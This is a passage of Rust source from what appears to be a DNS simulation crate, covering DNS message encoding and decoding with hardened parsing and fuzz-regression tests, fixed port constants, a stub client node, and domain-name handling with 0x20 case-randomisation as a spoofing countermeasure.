            frames.push(frame);
        }
        if buf.rejected() {
            buffers.remove(&key);
        }
        frames
    }
}

/// A question section entry.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct Question {
    /// Queried name (case carries 0x20 entropy).
    pub name: DomainName,
    /// Queried type.
    pub qtype: RecordType,
}

/// A full DNS message.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct Message {
    /// Header.
    pub header: Header,
    /// Question section.
    pub questions: Vec<Question>,
    /// Answer section.
    pub answers: Vec<ResourceRecord>,
    /// Authority section.
    pub authorities: Vec<ResourceRecord>,
    /// Additional section (including the EDNS OPT pseudo-record).
    pub additionals: Vec<ResourceRecord>,
}

impl Message {
    /// Builds a query for `name`/`qtype` with the given TXID.
    pub fn query(id: u16, name: DomainName, qtype: RecordType) -> Self {
        Message {
            header: Header::query(id),
            questions: vec![Question { name, qtype }],
            answers: Vec::new(),
            authorities: Vec::new(),
            additionals: Vec::new(),
        }
    }

    /// Adds an EDNS OPT record advertising the given UDP payload size.
    pub fn with_edns(mut self, udp_payload_size: u16) -> Self {
        self.additionals.push(ResourceRecord::new(DomainName::root(), 0, RData::Opt { udp_payload_size }));
        self
    }

    /// Builds a response skeleton echoing this query's ID and question.
    pub fn response_for(query: &Message) -> Self {
        let mut header = query.header;
        header.is_response = true;
        header.recursion_available = true;
        Message {
            header,
            questions: query.questions.clone(),
            answers: Vec::new(),
            authorities: Vec::new(),
            additionals: Vec::new(),
        }
    }

    /// The first question, if any.
    pub fn question(&self) -> Option<&Question> {
        self.questions.first()
    }

    /// The EDNS-advertised UDP payload size, or the 512-byte classic default.
    pub fn edns_udp_size(&self) -> u16 {
        self.additionals
            .iter()
            .find_map(|rr| match rr.rdata {
                RData::Opt { udp_payload_size } => Some(udp_payload_size),
                _ => None,
            })
            .unwrap_or(512)
    }

    /// All records in the answer + authority + additional sections.
    pub fn all_records(&self) -> impl Iterator<Item = &ResourceRecord> {
        self.answers.iter().chain(self.authorities.iter()).chain(self.additionals.iter())
    }

    /// Serialises the message (with name compression in owner names).
    pub fn encode(&self) -> Vec<u8> {
        // Pooled, pre-sized: the wire image usually rides straight into a
        // `UdpDatagram`, whose `into_packet` recycles it.
        let mut buf = netsim::pool::take(512);
        let mut compression: HashMap<String, u16> = HashMap::new();
        buf.extend_from_slice(&self.header.id.to_be_bytes());
        let mut flags: u16 = 0;
        if self.header.is_response {
            flags |= 0x8000;
        }
        if self.header.authoritative {
            flags |= 0x0400;
        }
        if self.header.truncated {
            flags |= 0x0200;
        }
        if self.header.recursion_desired {
            flags |= 0x0100;
        }
        if self.header.recursion_available {
            flags |= 0x0080;
        }
        if self.header.authenticated_data {
            flags |= 0x0020;
        }
        flags |= u16::from(self.header.rcode.to_u4());
        buf.extend_from_slice(&flags.to_be_bytes());
        buf.extend_from_slice(&(self.questions.len() as u16).to_be_bytes());
        buf.extend_from_slice(&(self.answers.len() as u16).to_be_bytes());
        buf.extend_from_slice(&(self.authorities.len() as u16).to_be_bytes());
        buf.extend_from_slice(&(self.additionals.len() as u16).to_be_bytes());
        for q in &self.questions {
            q.name.encode(&mut buf, Some(&mut compression));
            buf.extend_from_slice(&q.qtype.number().to_be_bytes());
            buf.extend_from_slice(&1u16.to_be_bytes()); // class IN
        }
        for rr in self.answers.iter().chain(&self.authorities).chain(&self.additionals) {
            rr.encode(&mut buf, Some(&mut compression));
        }
        buf
    }

    /// Parses a message from wire bytes.
    pub fn decode(buf: &[u8]) -> Result<Self, NameError> {
        if buf.len() < 12 {
            return Err(NameError::Truncated);
        }
        let id = u16::from_be_bytes([buf[0], buf[1]]);
        let flags = u16::from_be_bytes([buf[2], buf[3]]);
        let header = Header {
            id,
            is_response: flags & 0x8000 != 0,
            authoritative: flags & 0x0400 != 0,
            truncated: flags & 0x0200 != 0,
            recursion_desired: flags & 0x0100 != 0,
            recursion_available: flags & 0x0080 != 0,
            authenticated_data: flags & 0x0020 != 0,
            rcode: Rcode::from_u4((flags & 0x000F) as u8),
        };
        let qdcount = u16::from_be_bytes([buf[4], buf[5]]) as usize;
        let ancount = u16::from_be_bytes([buf[6], buf[7]]) as usize;
        let nscount = u16::from_be_bytes([buf[8], buf[9]]) as usize;
        let arcount = u16::from_be_bytes([buf[10], buf[11]]) as usize;
        // Capacity is bounded by what the buffer could possibly hold (a
        // question is ≥ 5 bytes, a record ≥ 11), never by the claimed count
        // alone: a 12-byte message claiming 65535 records must not allocate
        // megabytes before the first parse failure.
        // Regression (fuzz: dns_message/count_balloon.bin).
        let body = buf.len() - 12;
        let mut pos = 12;
        let mut questions = Vec::with_capacity(qdcount.min(body / 5));
        for _ in 0..qdcount {
            let (name, next) = DomainName::decode(buf, pos)?;
            let fixed = buf.get(next..next + 4).ok_or(NameError::Truncated)?;
            let qtype = RecordType::from_number(u16::from_be_bytes([fixed[0], fixed[1]]));
            questions.push(Question { name, qtype });
            pos = next + 4;
        }
        let read_section = |count: usize, pos: &mut usize| -> Result<Vec<ResourceRecord>, NameError> {
            let mut out = Vec::with_capacity(count.min(body / 11));
            for _ in 0..count {
                let (rr, next) = ResourceRecord::decode(buf, *pos)?;
                out.push(rr);
                *pos = next;
            }
            Ok(out)
        };
        let answers = read_section(ancount, &mut pos)?;
        let authorities = read_section(nscount, &mut pos)?;
        let additionals = read_section(arcount, &mut pos)?;
        if pos != buf.len() {
            // Bytes after the last counted record are a smuggling vector
            // (two parsers can disagree about what the message "is"), so
            // decoding is strict: every byte must be accounted for.
            return Err(NameError::TrailingBytes(buf.len() - pos));
        }
        Ok(Message { header, questions, answers, authorities, additionals })
    }

    /// The encoded size of this message in bytes.
    pub fn wire_size(&self) -> usize {
        self.encode().len()
    }
}

impl fmt::Display for Message {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let kind = if self.header.is_response { "response" } else { "query" };
        let q = self
            .questions
            .first()
            .map(|q| format!("{} {}", q.name, q.qtype))
            .unwrap_or_else(|| "<no question>".to_string());
        write!(
            f,
            "{kind} id={:#06x} {q} ans={} auth={} add={} rcode={:?}",
            self.header.id,
            self.answers.len(),
            self.authorities.len(),
            self.additionals.len(),
            self.header.rcode
        )
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::net::Ipv4Addr;

    fn n(s: &str) -> DomainName {
        s.parse().unwrap()
    }

    #[test]
    fn tcp_framing_roundtrip_and_partial_delivery() {
        let q1 = Message::query(1, n("vict.im"), RecordType::A).encode();
        let q2 = Message::query(2, n("www.vict.im"), RecordType::TXT).encode();
        let mut stream = frame_tcp(&q1);
        stream.extend_from_slice(&frame_tcp(&q2));

        // Deliver the pipelined stream one byte at a time: frames pop out
        // exactly at their boundaries.
        let mut buf = TcpFrameBuffer::new();
        let mut frames = Vec::new();
        for b in &stream {
            buf.push(std::slice::from_ref(b));
            while let Some(f) = buf.pop() {
                frames.push(f);
            }
        }
        assert_eq!(frames.len(), 2);
        assert_eq!(frames[0], q1);
        assert_eq!(frames[1], q2);
        assert_eq!(buf.pending_len(), 0);
    }

    #[test]
    fn oversized_frame_claim_poisons_the_stream() {
        // Regression (fuzz target tcp_frame, corpus
        // tcp_frame/oversize_claim.bin): a hostile peer claiming a frame
        // longer than MAX_TCP_FRAME_LEN used to make the buffer hold the
        // whole claim in memory while it trickled in.
        let mut buf = TcpFrameBuffer::new();
        let claim = ((MAX_TCP_FRAME_LEN + 1) as u16).to_be_bytes();
        buf.push(&claim);
        assert_eq!(buf.pop(), None);
        assert!(buf.rejected());
        assert_eq!(buf.pending_len(), 0, "rejected buffer holds no memory");
        buf.push(&[0u8; 512]);
        assert_eq!(buf.pending_len(), 0, "rejected buffer drops further input");
        assert_eq!(buf.pop(), None);
    }

    #[test]
    fn max_len_frame_still_accepted() {
        let mut buf = TcpFrameBuffer::new();
        let payload = vec![0x5au8; MAX_TCP_FRAME_LEN];
        buf.push(&frame_tcp(&payload));
        assert_eq!(buf.pop().as_deref(), Some(&payload[..]));
        assert!(!buf.rejected());
    }

    #[test]
    fn count_fields_cannot_balloon_allocation() {
        // Regression (fuzz target dns_message, corpus
        // dns_message/count_balloon.bin): a 12-byte header claiming 65535
        // questions used to pre-allocate for all of them before reading a
        // single byte of body.
        let mut buf = Message::query(1, n("vict.im"), RecordType::A).encode();
        buf[4] = 0xff; // QDCOUNT = 0xffXX
        assert!(Message::decode(&buf).is_err(), "claimed-but-absent questions rejected");
    }

    #[test]
    fn trailing_bytes_after_message_rejected() {
        // Regression (fuzz target dns_message): stray bytes after the last
        // section used to be silently ignored, so two messages glued
        // together decoded as the first — a parser-desync primitive.
        let mut buf = Message::query(1, n("vict.im"), RecordType::A).encode();
        buf.push(0x00);
        assert_eq!(Message::decode(&buf), Err(NameError::TrailingBytes(1)));
    }

    #[test]
    fn query_roundtrip() {
        let q = Message::query(0xABCD, n("vict.im"), RecordType::A).with_edns(4096);
        let decoded = Message::decode(&q.encode()).unwrap();
        assert_eq!(decoded, q);
        assert_eq!(decoded.header.id, 0xABCD);
        assert!(!decoded.header.is_response);
        assert_eq!(decoded.edns_udp_size(), 4096);
    }

    #[test]
    fn default_edns_size_is_512() {
        let q = Message::query(1, n("vict.im"), RecordType::A);
        assert_eq!(q.edns_udp_size(), 512);
    }

    #[test]
    fn response_roundtrip_with_records() {
        let q = Message::query(7, n("vict.im"), RecordType::ANY);
        let mut r = Message::response_for(&q);
        r.header.authoritative = true;
        r.answers.push(ResourceRecord::new(n("vict.im"), 300, RData::A(Ipv4Addr::new(30, 0, 0, 25))));
        r.answers.push(ResourceRecord::new(
            n("vict.im"),
            300,
            RData::Mx { preference: 10, exchange: n("mail.vict.im") },
        ));
        r.authorities.push(ResourceRecord::new(n("vict.im"), 300, RData::Ns(n("ns1.vict.im"))));
        r.additionals.push(ResourceRecord::new(n("ns1.vict.im"), 300, RData::A(Ipv4Addr::new(123, 0, 0, 53))));
        let decoded = Message::decode(&r.encode()).unwrap();
        assert_eq!(decoded, r);
        assert!(decoded.header.is_response);
        assert_eq!(decoded.answers.len(), 2);
        assert_eq!(decoded.all_records().count(), 4);
    }

    #[test]
    fn response_echoes_question_and_id() {
        let q = Message::query(0x1234, n("abc.vict.im"), RecordType::A);
        let r = Message::response_for(&q);
        assert_eq!(r.header.id, 0x1234);
        assert_eq!(r.question().unwrap().name, n("abc.vict.im"));
        assert!(r.header.is_response);
    }

    #[test]
    fn compression_reduces_size() {
        let q = Message::query(7, n("vict.im"), RecordType::A);
        let mut r = Message::response_for(&q);
        for i in 0..10 {
            r.answers.push(ResourceRecord::new(n("vict.im"), 300, RData::A(Ipv4Addr::new(30, 0, 0, i))));
        }
        let size = r.wire_size();
        // 10 A records at "vict.im": with compression each owner name costs 2
        // bytes instead of 9. The total must therefore be well under the
        // uncompressed estimate.
        assert!(size < 12 + 13 + 10 * (9 + 14), "compressed size {size} too large");
        let decoded = Message::decode(&r.encode()).unwrap();
        assert_eq!(decoded.answers.len(), 10);
        assert!(decoded.answers.iter().all(|rr| rr.name == n("vict.im")));
    }

    #[test]
    fn flags_roundtrip() {
        let mut m = Message::query(1, n("x.example"), RecordType::TXT);
        m.header.is_response = true;
        m.header.authoritative = true;
        m.header.truncated = true;
        m.header.recursion_available = true;
        m.header.authenticated_data = true;
        m.header.rcode = Rcode::NxDomain;
        let d = Message::decode(&m.encode()).unwrap();
        assert_eq!(d.header, m.header);
    }

    #[test]
    fn truncated_buffer_rejected() {
        let q = Message::query(9, n("vict.im"), RecordType::A);
        let bytes = q.encode();
        assert!(Message::decode(&bytes[..8]).is_err());
        assert!(Message::decode(&bytes[..bytes.len() - 3]).is_err());
    }

    #[test]
    fn rcode_values_roundtrip() {
        for rc in [Rcode::NoError, Rcode::FormErr, Rcode::ServFail, Rcode::NxDomain, Rcode::NotImp, Rcode::Refused] {
            assert_eq!(Rcode::from_u4(rc.to_u4()), rc);
        }
    }

    #[test]
    fn display_is_informative() {
        let q = Message::query(0x2233, n("vict.im"), RecordType::A);
        let s = q.to_string();
        assert!(s.contains("query"));
        assert!(s.contains("vict.im"));
        assert!(s.contains("0x2233"));
    }

    #[test]
    fn question_case_preserved_through_wire() {
        // 0x20: the mixed-case question must survive encode/decode exactly.
        let name = DomainName::from_labels(vec!["VicT", "iM"]).unwrap();
        let q = Message::query(5, name.clone(), RecordType::A);
        let d = Message::decode(&q.encode()).unwrap();
        assert!(d.question().unwrap().name.eq_case_sensitive(&name));
    }
}
