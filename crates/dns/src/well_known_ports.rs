//! The workspace's registry of fixed, well-known ports.
//!
//! Several hosts bind deliberately *fixed* ports: servers because the
//! protocol says so (DNS 53, HTTP 80), clients because drawing the port from
//! the simulation RNG would perturb the byte-identical-replay guarantee for
//! no modelling gain (a TCP client's off-path protection is its 32-bit
//! sequence number, not port secrecy). Before this module each node
//! re-declared its own literals — the stub client's `5353`, the resolver's
//! `RESOLVER_TCP_PORT`, and the CA's vantage resolvers would have grown a
//! third copy. Declaring them once keeps "who owns which fixed port" a
//! single-screen fact and makes collisions (two nodes binding the same fixed
//! port on one host) reviewable.

/// DNS server port (UDP and TCP), RFC 1035.
pub const DNS: u16 = 53;

/// HTTP server port — the ACME HTTP-01 challenge is *required* to be served
/// on port 80 of the validated domain (RFC 8555 §8.3).
pub const HTTP: u16 = 80;

/// Fixed query port of the stub client ([`crate::client::StubClient`]) and
/// of internal-client query triggers. Mirrors mDNS-style stub behaviour and
/// keeps client-side traffic trivially recognisable in traces.
pub const STUB_CLIENT: u16 = 5353;

/// The local port of a resolver's upstream TCP connections (one socket,
/// connections multiplexed per nameserver — RFC 7766 connection reuse).
/// Fixed rather than drawn from the RNG: TCP's off-path protection is the
/// 32-bit sequence number, not port secrecy, and a constant keeps the UDP
/// paths' RNG draw order byte-identical to the pre-TCP engine. Shared by the
/// victim resolver and every CA vantage resolver.
pub const RESOLVER_TCP: u16 = 49152;

/// Fixed DNS query port of a CA validation host (the CA asks its resolver
/// from here; one port per vantage keeps validator traffic separable).
pub const CA_VALIDATOR_DNS: u16 = 46000;

/// Fixed local port of a CA validation host's outgoing HTTP-01 fetch.
pub const CA_VALIDATOR_HTTP: u16 = 46080;

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn fixed_ports_are_distinct() {
        let all = [DNS, HTTP, STUB_CLIENT, RESOLVER_TCP, CA_VALIDATOR_DNS, CA_VALIDATOR_HTTP];
        for (i, a) in all.iter().enumerate() {
            for b in &all[i + 1..] {
                assert_ne!(a, b, "well-known ports must not collide");
            }
        }
    }
}
