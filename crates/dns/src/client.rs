//! A stub client node.
//!
//! Applications in the `apps` crate embed richer behaviour, but many tests,
//! examples and query-triggering techniques only need a host that can be told
//! to "ask the resolver for X" and that records what came back. The stub also
//! doubles as the *measurement front-end* used to probe open resolvers and
//! forwarders (Section 4.3.3): its query log shows which resolver back-end
//! contacted the authoritative nameserver.

use crate::message::{Message, Rcode};
use crate::name::DomainName;
use crate::rdata::{RecordType, ResourceRecord};
use netsim::prelude::*;
use std::collections::VecDeque;
use std::net::Ipv4Addr;

/// One completed lookup observed by the stub client.
#[derive(Debug, Clone, PartialEq)]
pub struct CompletedLookup {
    /// The name that was queried.
    pub name: DomainName,
    /// The queried type.
    pub qtype: RecordType,
    /// Response code.
    pub rcode: Rcode,
    /// Whether the response carried the TC (truncated) bit. A UDP-only
    /// resolver that receives a truncated upstream answer echoes TC with its
    /// SERVFAIL, so this outcome is distinguishable from a plain timeout.
    pub truncated: bool,
    /// Answer records.
    pub answers: Vec<ResourceRecord>,
    /// When the answer arrived.
    pub at: SimTime,
}

impl CompletedLookup {
    /// The first A address in the answer, if any.
    pub fn first_a(&self) -> Option<Ipv4Addr> {
        self.answers.iter().find_map(|r| r.rdata.as_ipv4())
    }
}

/// A queued query the client will send when started (or on a timer).
#[derive(Debug, Clone)]
struct PendingQuery {
    name: DomainName,
    qtype: RecordType,
    delay: Duration,
}

/// A stub resolver client: sends pre-programmed queries to a recursive
/// resolver over the generic socket API and records the answers.
pub struct StubClient {
    resolver: Ipv4Addr,
    stack: HostStack,
    sock: Box<dyn Socket>,
    queue: VecDeque<PendingQuery>,
    next_txid: u16,
    /// Lookups completed so far.
    pub completed: Vec<CompletedLookup>,
    /// SERVFAIL or other error responses received.
    pub failures: u64,
}

impl StubClient {
    /// Creates a client that will use `resolver` for lookups.
    pub fn new(addr: Ipv4Addr, resolver: Ipv4Addr) -> Self {
        let mut stack = HostStack::with_defaults(vec![addr]);
        let sock = UdpTransport.bind(&mut stack, crate::well_known_ports::STUB_CLIENT);
        StubClient { resolver, stack, sock, queue: VecDeque::new(), next_txid: 1, completed: Vec::new(), failures: 0 }
    }

    /// Queues a lookup to be issued `delay` after simulation start.
    pub fn query_after(&mut self, delay: Duration, name: &str, qtype: RecordType) -> &mut Self {
        self.queue.push_back(PendingQuery { name: name.parse().expect("valid name"), qtype, delay });
        self
    }

    /// Queues a lookup to be issued immediately at simulation start.
    pub fn query(&mut self, name: &str, qtype: RecordType) -> &mut Self {
        self.query_after(Duration::ZERO, name, qtype)
    }

    /// The answer the client ended up with for `name`, if any.
    pub fn answer_for(&self, name: &DomainName) -> Option<&CompletedLookup> {
        self.completed.iter().rev().find(|c| &c.name == name)
    }

    /// Convenience: the address the client would connect to for `name`.
    pub fn resolved_address(&self, name: &DomainName) -> Option<Ipv4Addr> {
        self.answer_for(name).and_then(CompletedLookup::first_a)
    }

    fn send_query(&mut self, idx: usize, ctx: &mut Ctx<'_>) {
        let Some(q) = self.queue.get(idx).cloned() else { return };
        let txid = self.next_txid;
        self.next_txid = self.next_txid.wrapping_add(1);
        let msg = Message::query(txid, q.name.clone(), q.qtype);
        let sock = &mut self.sock;
        let resolver = self.resolver;
        with_io(&mut self.stack, ctx, |io| {
            sock.send_to(io, Endpoint::new(resolver, crate::well_known_ports::DNS), &msg.encode())
        });
    }
}

impl Node for StubClient {
    fn on_start(&mut self, ctx: &mut Ctx<'_>) {
        for (idx, q) in self.queue.iter().enumerate() {
            ctx.set_timer(q.delay, idx as u64);
        }
    }

    fn on_timer(&mut self, ctx: &mut Ctx<'_>, token: u64) {
        self.send_query(token as usize, ctx);
    }

    fn on_packet(&mut self, ctx: &mut Ctx<'_>, pkt: Ipv4Packet) {
        let now = ctx.now();
        let output = {
            let rng = ctx.rng();
            self.stack.handle_packet(&pkt, now, rng)
        };
        for reply in output.replies {
            ctx.send(reply);
        }
        for event in output.events {
            let sock = &mut self.sock;
            let sock_events = with_io(&mut self.stack, ctx, |io| sock.handle(io, &event));
            for se in sock_events {
                let SocketEvent::Data { payload, .. } = se else { continue };
                if let Ok(msg) = Message::decode(&payload) {
                    if !msg.header.is_response {
                        continue;
                    }
                    if msg.header.rcode != Rcode::NoError {
                        self.failures += 1;
                    }
                    if let Some(q) = msg.question() {
                        self.completed.push(CompletedLookup {
                            name: q.name.clone(),
                            qtype: q.qtype,
                            rcode: msg.header.rcode,
                            truncated: msg.header.truncated,
                            answers: msg.answers.clone(),
                            at: now,
                        });
                    }
                }
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::nameserver::{Nameserver, NameserverConfig};
    use crate::resolver::{Resolver, ResolverConfig};
    use crate::zone::Zone;

    const RESOLVER_ADDR: Ipv4Addr = Ipv4Addr::new(30, 0, 0, 1);
    const NS_ADDR: Ipv4Addr = Ipv4Addr::new(123, 0, 0, 53);
    const CLIENT_ADDR: Ipv4Addr = Ipv4Addr::new(30, 0, 0, 25);

    fn n(s: &str) -> DomainName {
        s.parse().unwrap()
    }

    #[test]
    fn end_to_end_lookup_through_resolver() {
        let mut zone = Zone::new(n("vict.im"));
        zone.add_a("www.vict.im", "30.0.0.80".parse().unwrap());
        let resolver_cfg = ResolverConfig::new(RESOLVER_ADDR).with_delegation("vict.im", vec![NS_ADDR], false);
        let mut client = StubClient::new(CLIENT_ADDR, RESOLVER_ADDR);
        client.query("www.vict.im", RecordType::A);
        client.query_after(Duration::from_millis(500), "missing.vict.im", RecordType::A);

        let mut sim = Simulator::new(21);
        let c = sim.add_node("client", vec![CLIENT_ADDR], client);
        let _r = sim.add_node("resolver", vec![RESOLVER_ADDR], Resolver::new(resolver_cfg));
        let _ns = sim.add_node("ns", vec![NS_ADDR], Nameserver::new(NameserverConfig::new(NS_ADDR), vec![zone]));
        sim.run();

        let client = sim.node_ref::<StubClient>(c).unwrap();
        assert_eq!(client.completed.len(), 2);
        assert_eq!(client.resolved_address(&n("www.vict.im")), Some("30.0.0.80".parse().unwrap()));
        let miss = client.answer_for(&n("missing.vict.im")).unwrap();
        assert_eq!(miss.rcode, Rcode::NxDomain);
        assert_eq!(client.failures, 1);
    }

    #[test]
    fn answers_record_timing() {
        let mut zone = Zone::new(n("vict.im"));
        zone.add_a("www.vict.im", "30.0.0.80".parse().unwrap());
        let resolver_cfg = ResolverConfig::new(RESOLVER_ADDR).with_delegation("vict.im", vec![NS_ADDR], false);
        let mut client = StubClient::new(CLIENT_ADDR, RESOLVER_ADDR);
        client.query("www.vict.im", RecordType::A);
        let mut sim = Simulator::new(22);
        let c = sim.add_node("client", vec![CLIENT_ADDR], client);
        let _r = sim.add_node("resolver", vec![RESOLVER_ADDR], Resolver::new(resolver_cfg));
        let _ns = sim.add_node("ns", vec![NS_ADDR], Nameserver::new(NameserverConfig::new(NS_ADDR), vec![zone]));
        sim.run();
        let done = &sim.node_ref::<StubClient>(c).unwrap().completed[0];
        assert!(done.at > SimTime::ZERO, "resolution takes network time");
    }
}
