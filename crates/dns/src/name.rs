//! Domain names: label handling, wire encoding with message compression, and
//! **0x20 encoding** (Dagon et al., CCS 2008).
//!
//! 0x20 encoding is one of the countermeasures evaluated in Section 6 of the
//! paper: the resolver randomises the case of each letter in the query name
//! and requires the response to echo the exact casing, adding up to one bit
//! of entropy per letter. It defeats SadDNS-style response forgery (the
//! attacker must guess the casing) but **not** FragDNS, because the question
//! section travels in the first, genuine fragment.

use rand::Rng;
use serde::{Deserialize, Serialize};
use std::fmt;
use std::str::FromStr;

/// Maximum length of a single label (RFC 1035).
pub const MAX_LABEL_LEN: usize = 63;
/// Maximum total length of a domain name on the wire (RFC 1035).
pub const MAX_NAME_LEN: usize = 255;

/// The label alphabet this workspace accepts: LDH (RFC 1035 §2.3.1) plus
/// `_` (service labels like `_acme-challenge`) and `*` (wildcards). Both
/// [`DomainName::from_labels`] and [`DomainName::decode`] enforce it, so a
/// name can never enter the system through the wire that the builder API
/// would have rejected.
fn is_label_byte(b: u8) -> bool {
    b.is_ascii_alphanumeric() || b == b'-' || b == b'_' || b == b'*'
}

/// A fully-qualified domain name, stored as a sequence of labels without the
/// trailing root label.
///
/// Case is preserved (for 0x20 encoding) but comparisons and hashing are
/// case-insensitive, as required by RFC 1035 / RFC 4343.
#[derive(Debug, Clone, Eq, Serialize, Deserialize)]
pub struct DomainName {
    labels: Vec<String>,
}

impl DomainName {
    /// The DNS root (empty name).
    pub fn root() -> Self {
        DomainName { labels: Vec::new() }
    }

    /// Builds a name from labels; returns an error for invalid labels.
    pub fn from_labels<I, S>(labels: I) -> Result<Self, NameError>
    where
        I: IntoIterator<Item = S>,
        S: Into<String>,
    {
        let labels: Vec<String> = labels.into_iter().map(Into::into).collect();
        let name = DomainName { labels };
        name.validate()?;
        Ok(name)
    }

    fn validate(&self) -> Result<(), NameError> {
        let mut total = 0usize;
        for label in &self.labels {
            if label.is_empty() {
                return Err(NameError::EmptyLabel);
            }
            if label.len() > MAX_LABEL_LEN {
                return Err(NameError::LabelTooLong(label.len()));
            }
            if !label.bytes().all(is_label_byte) {
                return Err(NameError::InvalidCharacter);
            }
            total += label.len() + 1;
        }
        if total + 1 > MAX_NAME_LEN {
            return Err(NameError::NameTooLong(total + 1));
        }
        Ok(())
    }

    /// The labels of this name, most specific first.
    pub fn labels(&self) -> &[String] {
        &self.labels
    }

    /// Number of labels.
    pub fn label_count(&self) -> usize {
        self.labels.len()
    }

    /// Whether this is the root name.
    pub fn is_root(&self) -> bool {
        self.labels.is_empty()
    }

    /// Length of the wire representation (labels + length octets + root).
    pub fn wire_len(&self) -> usize {
        self.labels.iter().map(|l| l.len() + 1).sum::<usize>() + 1
    }

    /// Whether `self` equals `ancestor` or is a subdomain of it
    /// (case-insensitive). This is the **bailiwick** test resolvers apply to
    /// records in responses.
    pub fn is_subdomain_of(&self, ancestor: &DomainName) -> bool {
        if ancestor.labels.len() > self.labels.len() {
            return false;
        }
        self.labels.iter().rev().zip(ancestor.labels.iter().rev()).all(|(a, b)| a.eq_ignore_ascii_case(b))
    }

    /// The parent name (one label removed), or `None` at the root.
    pub fn parent(&self) -> Option<DomainName> {
        if self.labels.is_empty() {
            None
        } else {
            Some(DomainName { labels: self.labels[1..].to_vec() })
        }
    }

    /// Prepends a label, producing `label.self`.
    pub fn prepend(&self, label: &str) -> Result<DomainName, NameError> {
        let mut labels = Vec::with_capacity(self.labels.len() + 1);
        labels.push(label.to_string());
        labels.extend(self.labels.iter().cloned());
        let name = DomainName { labels };
        name.validate()?;
        Ok(name)
    }

    /// Returns this name with every alphabetic character's case randomised —
    /// the 0x20 transformation applied by a protecting resolver.
    pub fn randomize_case<R: Rng>(&self, rng: &mut R) -> DomainName {
        let labels = self
            .labels
            .iter()
            .map(|l| {
                l.chars()
                    .map(|c| {
                        if c.is_ascii_alphabetic() && rng.gen::<bool>() {
                            c.to_ascii_uppercase()
                        } else {
                            c.to_ascii_lowercase()
                        }
                    })
                    .collect()
            })
            .collect();
        DomainName { labels }
    }

    /// Case-*sensitive* equality — what a 0x20-validating resolver checks
    /// between the question it sent and the question echoed in the response.
    pub fn eq_case_sensitive(&self, other: &DomainName) -> bool {
        self.labels == other.labels
    }

    /// The number of 0x20 entropy bits this name provides (one per ASCII letter).
    pub fn entropy_0x20_bits(&self) -> u32 {
        self.labels.iter().flat_map(|l| l.chars()).filter(|c| c.is_ascii_alphabetic()).count() as u32
    }

    /// Returns a lowercased copy (canonical form).
    pub fn to_lowercase(&self) -> DomainName {
        DomainName { labels: self.labels.iter().map(|l| l.to_ascii_lowercase()).collect() }
    }

    /// Encodes the name to wire format, appending to `buf`.
    ///
    /// When `compression` is provided, suffixes already present in the map
    /// are replaced by compression pointers and new suffix offsets are
    /// recorded (offsets must fit in 14 bits).
    pub fn encode(&self, buf: &mut Vec<u8>, compression: Option<&mut std::collections::HashMap<String, u16>>) {
        let Some(map) = compression else {
            // No compression map: the name is straight label copies.
            for label in &self.labels {
                buf.push(label.len() as u8);
                buf.extend_from_slice(label.as_bytes());
            }
            buf.push(0);
            return;
        };
        // One lowercase pass over the whole name: every candidate suffix is
        // a slice of `full` (label lengths are byte lengths, separators one
        // byte), so lookups allocate nothing and only suffixes newly
        // recorded in the map are copied out.
        let full = self.labels.join(".").to_ascii_lowercase();
        let mut off = 0;
        for label in &self.labels {
            let suffix = &full[off..];
            if let Some(&offset) = map.get(suffix) {
                buf.extend_from_slice(&(0xC000u16 | offset).to_be_bytes());
                return;
            }
            let here = buf.len();
            if here <= 0x3FFF {
                map.insert(suffix.to_owned(), here as u16);
            }
            buf.push(label.len() as u8);
            buf.extend_from_slice(label.as_bytes());
            off += label.len() + 1;
        }
        buf.push(0);
    }

    /// Decodes a name starting at `offset` within `msg`, following
    /// compression pointers. Returns the name and the offset just past it.
    pub fn decode(msg: &[u8], offset: usize) -> Result<(DomainName, usize), NameError> {
        let mut labels = Vec::new();
        let mut pos = offset;
        let mut jumped = false;
        let mut end = offset;
        let mut hops = 0;
        loop {
            let len = *msg.get(pos).ok_or(NameError::Truncated)? as usize;
            if len & 0xC0 == 0xC0 {
                // Compression pointer.
                let second = *msg.get(pos + 1).ok_or(NameError::Truncated)? as usize;
                let target = ((len & 0x3F) << 8) | second;
                if !jumped {
                    end = pos + 2;
                    jumped = true;
                }
                hops += 1;
                if hops > 32 {
                    return Err(NameError::PointerLoop);
                }
                if target >= pos {
                    return Err(NameError::ForwardPointer);
                }
                pos = target;
                continue;
            }
            if len == 0 {
                if !jumped {
                    end = pos + 1;
                }
                break;
            }
            if len > MAX_LABEL_LEN {
                return Err(NameError::LabelTooLong(len));
            }
            let bytes = msg.get(pos + 1..pos + 1 + len).ok_or(NameError::Truncated)?;
            // Same alphabet as `validate`: wire decoding must not smuggle in
            // labels (embedded dots, control bytes, non-ASCII) that the
            // builder API rejects — they would corrupt display/parse
            // roundtrips and compression-map suffix keys.
            if !bytes.iter().copied().all(is_label_byte) {
                return Err(NameError::InvalidCharacter);
            }
            let label = String::from_utf8(bytes.to_vec()).map_err(|_| NameError::InvalidCharacter)?;
            labels.push(label);
            pos += len + 1;
        }
        let name = DomainName { labels };
        if name.wire_len() > MAX_NAME_LEN {
            return Err(NameError::NameTooLong(name.wire_len()));
        }
        Ok((name, end))
    }
}

impl PartialEq for DomainName {
    fn eq(&self, other: &Self) -> bool {
        self.labels.len() == other.labels.len()
            && self.labels.iter().zip(&other.labels).all(|(a, b)| a.eq_ignore_ascii_case(b))
    }
}

impl std::hash::Hash for DomainName {
    fn hash<H: std::hash::Hasher>(&self, state: &mut H) {
        for l in &self.labels {
            l.to_ascii_lowercase().hash(state);
        }
    }
}

impl PartialOrd for DomainName {
    fn partial_cmp(&self, other: &Self) -> Option<std::cmp::Ordering> {
        Some(self.cmp(other))
    }
}

impl Ord for DomainName {
    fn cmp(&self, other: &Self) -> std::cmp::Ordering {
        let a: Vec<String> = self.labels.iter().map(|l| l.to_ascii_lowercase()).collect();
        let b: Vec<String> = other.labels.iter().map(|l| l.to_ascii_lowercase()).collect();
        a.cmp(&b)
    }
}

impl fmt::Display for DomainName {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        if self.labels.is_empty() {
            return write!(f, ".");
        }
